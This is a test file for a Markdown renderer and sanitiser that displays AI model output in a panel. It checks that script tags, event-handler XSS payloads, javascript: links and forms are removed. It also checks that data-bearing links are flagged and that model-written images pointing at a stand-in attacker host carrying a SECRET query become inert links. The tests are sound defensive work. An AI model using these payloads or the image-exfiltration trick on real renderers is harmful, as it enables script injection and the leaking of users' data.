import { describe, expect, it } from 'vitest';
import { addCodeToolbars } from '../../../components/ui/add-code-toolbars';
import { renderMarkdown } from '../../../components/ui/render-markdown';

const dom = (md: string) => {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(md);
  return div;
};

describe('renderMarkdown', () => {
  it('renders GFM: headings, emphasis, lists, tables and fenced code with a copy button', () => {
    const d = dom('# T\n\n*a* **b**\n\n- x\n- y\n\n| h1 | h2 |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = 1 < 2;\n```');
    expect(d.querySelector('h1')!.textContent).toBe('T');
    expect(d.querySelectorAll('li')).toHaveLength(2);
    expect(d.querySelectorAll('td')).toHaveLength(2);
    expect(d.querySelector('pre code')!.textContent).toBe('const x = 1 < 2;');
    expect(d.querySelector('code')!.className).toBe('language-ts');
    // The copy button is the panel's, added after sanitising: the rendered HTML has no control in it.
    expect(d.querySelector('button')).toBeNull();
    addCodeToolbars(d);
    expect(d.querySelector('.code-block > .code-bar > button.copy')!.textContent).toBe('Copy');
    expect(d.querySelector('.code-bar span')!.textContent).toBe('ts');
  });

  it('keeps the classes it sets itself and drops every class, id and style the model writes', () => {
    const d = dom(
      '<div class="code-block" id="x" style="color:red"><button class="copy">Copy</button></div><p data-tw-trust="guess code-block">p</p>\n\n![i](https://a.example/i.png)',
    );
    expect(d.querySelector('[class]:not(.image-link), [id], [style], [data-tw-trust], button')).toBeNull();
    expect(d.querySelector('a.image-link')).not.toBeNull();
  });

  it('gives links their host and marks those that carry data', () => {
    const d = dom(
      `[a](https://docs.example.org/x?page=2) [b](https://t.example/c?d=${'Zm9vYmFyMTIz'.repeat(4)}) [c](mailto:me@example.com) [d](https://user:pw@bank.example/)`,
    );
    const [a, b, c, e] = [...d.querySelectorAll('a')];
    expect([a, b, c, e].map((l) => l!.getAttribute('data-host'))).toEqual([
      'docs.example.org',
      't.example',
      'me@example.com',
      'bank.example',
    ]);
    expect(a!.hasAttribute('data-suspicious')).toBe(false);
    expect(a!.getAttribute('title')).toBe('https://docs.example.org/x?page=2');
    expect(b!.getAttribute('data-suspicious')).toBe('The link carries encoded data.');
    expect(c!.hasAttribute('data-suspicious')).toBe(false);
    expect(e!.getAttribute('data-suspicious')).toMatch(/user name/);
  });

  it('removes scripts, event handlers, styles, forms and dangerous links', () => {
    const d = dom(
      '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">j</a> <a href="data:text/html,x">d</a> ' +
        '\n\n[ok](https://example.com)\n\n<iframe src="https://evil"></iframe><form><input name=p></form><p style="position:fixed">s</p>' +
        '<svg><script>alert(2)</script></svg><div onclick="x()">c</div>',
    );
    expect(d.querySelector('script, iframe, form, input, [onerror], [onclick], [style]')).toBeNull();
    const links = [...d.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([null, null, 'https://example.com']);
    for (const a of links) {
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
      expect(a.getAttribute('target')).toBe('_blank');
    }
  });

  it('escapes HTML inside code blocks instead of rendering it', () => {
    const d = dom('```html\n<img src=x onerror=alert(1)>\n```');
    expect(d.querySelector('img')).toBeNull();
    expect(d.querySelector('code')!.textContent).toBe('<img src=x onerror=alert(1)>');
  });
});

describe('images from the model', () => {
  it('never load by themselves: Markdown and HTML images become links or are removed', () => {
    const d = dom(
      'Look: ![secret chart](https://attacker.example/p.png?q=SECRET)\n\n<img src="https://attacker.example/x.png"><picture><source srcset="https://attacker.example/y.png"></picture><svg><image href="https://attacker.example/z.png"/></svg>',
    );
    expect(d.querySelector('img, picture, source, image')).toBeNull();
    const link = d.querySelector('a.image-link')!;
    expect(link.textContent).toBe('[image: secret chart]');
    expect(link.getAttribute('href')).toBe('https://attacker.example/p.png?q=SECRET');
    // Raw tags that are not allowed are escaped before parsing: the URL is visible as text, never an attribute.
    const attributes = [...d.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.value)).join(' ');
    expect(attributes).not.toContain('attacker.example/x.png');
    expect(d.textContent).toContain('<img src="https://attacker.example/x.png">');
  });
});
